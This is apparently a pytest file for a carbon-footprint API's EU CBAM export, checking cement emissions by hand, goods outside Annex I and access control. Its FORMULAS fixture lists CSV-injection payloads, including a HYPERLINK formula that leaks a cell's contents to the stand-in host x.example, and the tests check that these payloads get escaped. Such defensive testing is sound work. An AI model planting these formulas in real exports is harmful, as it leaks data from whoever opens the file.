"""EU CBAM export: embedded emissions per tonne from the cement example, computed by hand."""

import csv
import io

import openpyxl
import pytest

from tests.labelling import calculated_footprint


def test_cement_embedded_emissions_from_the_example_by_hand(world):
    """examples/cement-guizhou-2023.json, 2,000,000 t cement in 2023, Guizhou:

    direct (t CO2e/t), only the installation's own emissions:
      clinker calcination 1,640,000/2,000,000 = 0.82 t clinker/t x ((65.5 - 0.5) % CaO x 44/56 + 2.5 % MgO x 44/40)
        = 0.82 x (0.510714 + 0.0275) = 0.441336
      kiln coal 240,000/2,000,000 = 0.12 t/t x (22.0 GJ/t x 26.18 t C/TJ x 0.93 x 44/12
        + 0.022 TJ x 10 kg CH4/TJ x 29.8 + 0.022 TJ x 1.5 kg N2O/TJ x 273) / 1000 = 0.12 x 1.979639 = 0.237557
      not counted: coal mining CH4 (upstream), raw materials, transport, diesel of mobile machinery
      direct = 0.678893
    indirect: 160,000,000 kWh / 2,000,000 t = 80 kWh = 0.08 MWh/t x 0.5306 t CO2/MWh (MEE/NBS national average
      CO2 factor 2023) = 0.042448; certificates are not applied
    counted for cement (indirect counts) = 0.678893 + 0.042448 = 0.721341 t CO2e/t
    """
    footprint = calculated_footprint(world, gtin=None)["footprint_id"]
    response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{footprint}/cbam")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    row = next(csv.DictReader(io.StringIO(response.text)))
    direct = (
        0.82 * ((0.655 - 0.005) * 44 / 56 + 0.025 * 44 / 40)
        + 0.12 * (22.0 * 26.18 * 0.93 * 44 / 12 + 0.022 * 10 * 29.8 + 0.022 * 1.5 * 273) / 1000
    )
    indirect = 0.08 * 0.5306
    assert row["CN code"] == "2523 29 00" and row["Unit"] == "t" and row["Country"] == "CN"
    assert float(row["Specific direct embedded emissions (t CO2e per unit)"]) == pytest.approx(direct, rel=1e-5)
    assert float(row["Electricity consumption (MWh per unit)"]) == pytest.approx(0.08, rel=1e-9)
    assert float(row["Specific indirect embedded emissions (t CO2e per unit)"]) == pytest.approx(indirect, rel=1e-6)
    assert float(row["Specific embedded emissions counted (t CO2e per unit)"]) == pytest.approx(
        direct + indirect, rel=1e-5
    )
    assert row["Indirect emissions counted for this good"] == "yes"
    assert float(row["Production in the period"]) == 2_000_000
    assert "diesel" in row["Excluded from direct emissions"]


def test_the_export_as_a_workbook(world):
    footprint = calculated_footprint(world, gtin=None)["footprint_id"]
    response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{footprint}/cbam", params={"format": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    fields = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=2).value for r in range(1, sheet.max_row + 1)}
    assert fields["CN code"] == "2523 29 00"
    assert fields["Specific indirect embedded emissions (t CO2e per unit)"] == pytest.approx(0.08 * 0.5306, rel=1e-6)


def test_aluminium_counts_no_indirect_emissions_and_electricity_is_per_mwh(world):
    aluminium = calculated_footprint(world, example="aluminium-guizhou-2023.json", gtin=None)["footprint_id"]
    row = next(
        csv.DictReader(io.StringIO(world.call("acme-engineer", "GET", f"/api/v1/footprints/{aluminium}/cbam").text))
    )
    assert row["Indirect emissions counted for this good"] == "no"
    assert float(row["Specific embedded emissions counted (t CO2e per unit)"]) == pytest.approx(
        float(row["Specific direct embedded emissions (t CO2e per unit)"])
    )
    power = calculated_footprint(world, example="electricity-guizhou-coal-2023.json", gtin=None)["footprint_id"]
    row = next(csv.DictReader(io.StringIO(world.call("acme-engineer", "GET", f"/api/v1/footprints/{power}/cbam").text)))
    assert row["Unit"] == "MWh" and row["CN code"] == "2716 00 00"
    assert 0.7 < float(row["Specific direct embedded emissions (t CO2e per unit)"]) < 1.0  # coal plant, per MWh


def test_flat_glass_is_not_a_cbam_good(world):
    glass = calculated_footprint(world, example="flat-glass-hebei-2023.json", gtin=None)["footprint_id"]
    response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{glass}/cbam")
    assert response.status_code == 422 and "Annex I" in response.json()["detail"]
    assert world.call("rival-engineer", "GET", f"/api/v1/footprints/{glass}/cbam").status_code == 404


def test_a_good_outside_annex_i_is_refused_by_a_code_a_page_words_in_chinese():
    from footprint_api.core.messages import catalogue
    from footprint_api.exports import cbam

    refusal = cbam.refusal("PCR-CN-FLATGLASS")
    assert (refusal.code, refusal.params) == ("cbam.not_a_good", {"pcr": "PCR-CN-FLATGLASS"})
    assert str(refusal) == "PCR-CN-FLATGLASS does not make a good listed in Annex I of Regulation (EU) 2023/956"
    assert catalogue("en")(refusal.code, **refusal.params) == str(refusal)
    assert catalogue("zh")(refusal.code, **refusal.params) == (
        "PCR-CN-FLATGLASS 所涵盖的产品不是欧盟《碳边境调节机制》条例（(EU) 2023/956）附件一所列的货物"
    )
    assert cbam.refusal("PCR-CN-CEMENT") is None


FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(A1)"]


def hostile_footprint(world, name: str) -> str:
    """The cement example with `name` as both the product's and the installation's name."""
    from tests.conftest import load_example
    from tests.labelling import unique_serials

    product = world.call(
        "acme-engineer",
        "POST",
        "/api/v1/products",
        json={"name": name, "model": None, "gtin": None, "pcr_id": "PCR-CN-CEMENT"},
    )
    assert product.status_code == 201, product.text
    data = unique_serials(load_example("cement-guizhou-2023.json"))
    data["facility"]["name"] = name
    inventory = world.submit("acme-engineer", product.json()["id"], data)
    assert inventory.status_code == 201, inventory.text
    return world.calculate("acme-engineer", inventory.json()["id"])["footprint_id"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_as_a_name_is_text_in_the_csv(world, name):
    """OWASP CSV injection: a cell that begins with = + - @ gets a leading single quote; the figures stay numbers."""
    footprint = hostile_footprint(world, name)
    response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{footprint}/cbam", params={"format": "csv"})
    assert response.status_code == 200
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["Product"] == "'" + name and row["Installation"] == "'" + name
    assert float(row["Electricity consumption (MWh per unit)"]) == pytest.approx(0.08)


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_as_a_name_is_a_string_cell_in_the_workbook(world, name):
    footprint = hostile_footprint(world, name)
    response = world.call("acme-engineer", "GET", f"/api/v1/footprints/{footprint}/cbam", params={"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for field in ("Product", "Installation"):
        assert (cells[field].value, cells[field].data_type) == (name, "s")
    assert cells["Electricity consumption (MWh per unit)"].data_type == "n"


def test_electricity_of_the_installations_own_units_is_indirect_at_their_actual_factor():
    """Cement, per t: 100 kWh consumed, 60 kWh of it from the plant's own unit (60 kg CO2e at its stack, 6 kg of
    fuel supply upstream), clinker calcination 440 kg CO2.
      direct = 0.440 t (the unit's stack emissions are not direct emissions of the good)
      indirect = grid 0.040 MWh x 0.5306 + own 0.060 t = 0.021224 + 0.060 = 0.081224 t CO2e/t
      own factor = 0.060 t / 0.060 MWh = 1.0 t CO2e/MWh; the upstream 6 kg is outside CBAM (Reg. 2023/956 Art. 3(34))
    """
    from footprint_api.exports import cbam
    from lca_models.factor_set import FactorChoice

    result = {
        "reference_period": ["2023-01-01", "2023-12-31"],
        "electricity": {"consumed_kwh_per_declared_unit": 100.0, "captive_kwh_per_declared_unit": 60.0},
        "contributions": [
            {"item": "clinker", "part": "process", "kg_co2e": 440.0},
            {"item": "captive_power", "part": "combustion", "kg_co2e": 60.0},
            {"item": "captive_power", "part": "supply", "kg_co2e": 6.0},
        ],
    }
    grid = FactorChoice("electricity-grid-co2-national_average-2023", 2023, 0.5306, "MEE/NBS 2023")
    line = cbam.embedded_emissions(result, "PCR-CN-CEMENT", grid, "kiln line", 1_000_000)
    assert line.specific_direct_t_co2e == pytest.approx(0.440)
    assert line.specific_indirect_t_co2e == pytest.approx(0.04 * 0.5306 + 0.060)
    assert (line.captive_mwh_per_unit, line.captive_factor_t_co2_per_mwh) == (pytest.approx(0.06), pytest.approx(1.0))
    assert line.specific_embedded_t_co2e == pytest.approx(0.440 + 0.04 * 0.5306 + 0.060)
    row = next(csv.DictReader(io.StringIO(cbam.to_csv(line).decode("utf-8-sig"))))
    assert float(row["Emission factor of the installation's own electricity (t CO2e / MWh)"]) == pytest.approx(1.0)
